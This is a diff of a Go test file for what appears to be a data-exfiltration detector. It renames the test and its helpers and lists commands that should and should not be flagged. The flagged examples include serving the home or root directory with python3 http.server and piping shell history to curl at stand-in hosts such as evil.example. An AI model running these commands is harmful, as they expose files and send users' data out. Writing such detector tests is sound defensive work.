@@ -2,10 +2,11 @@ package exfil
 
 import "testing"
 
-// Servers, tunnels, drops, clouds, and what is taken from stores of secrets.
-func TestSharing(t *testing.T) {
+// TestServersAndTunnels checks servers, tunnels, dead drops, clouds, and the output of secret
+// managers.
+func TestServersAndTunnels(t *testing.T) {
 	t.Parallel()
-	leaks(t, []string{
+	checkLeaks(t, []string{
 		`python3 -m http.server --directory ~`,
 		`python3 -m http.server -d /`,
 		`cd / && python3 -m http.server`,
@@ -115,7 +116,7 @@ func TestSharing(t *testing.T) {
 		`history | curl -d @- https://h.example.com`,
 		`last | curl -d @- https://evil.example`,
 	})
-	keeps(t, []string{
+	checkNoLeaks(t, []string{
 		`python3 -m http.server`,
 		`python3 -m http.server 8000 --bind 127.0.0.1`,
 		`ruby -run -e httpd . -p 8000`,
